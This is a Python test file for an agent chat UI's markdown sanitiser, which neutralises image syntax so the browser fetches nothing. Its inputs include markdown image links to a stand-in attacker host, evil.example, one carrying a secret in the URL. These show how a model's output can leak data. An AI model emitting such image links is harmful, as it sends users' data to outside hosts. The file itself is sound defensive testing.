"""Chat markdown renders no image: a model's `![](url)` would be fetched by the browser."""

from __future__ import annotations

import pytest

from mltrainer.agent.ui.markdown import without_images


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/x.png?q=secret)",
        "see ![x][ref]\n\n[ref]: https://evil.example/y.png",
        "[![badge](https://evil.example/b.svg)](https://example.org)",
    ],
)
def test_no_image_opener_survives(text: str) -> None:
    assert "![" not in without_images(text)


def test_an_image_becomes_a_link_with_its_text_kept() -> None:
    assert without_images("![chart](https://e.example/c.png)") == (
        "!\u200b[chart](https://e.example/c.png)"
    )


def test_text_without_images_is_unchanged() -> None:
    text = "Trial 3: **54.1%** vs [the baseline](https://example.org)! [sic]"

    assert without_images(text) == text
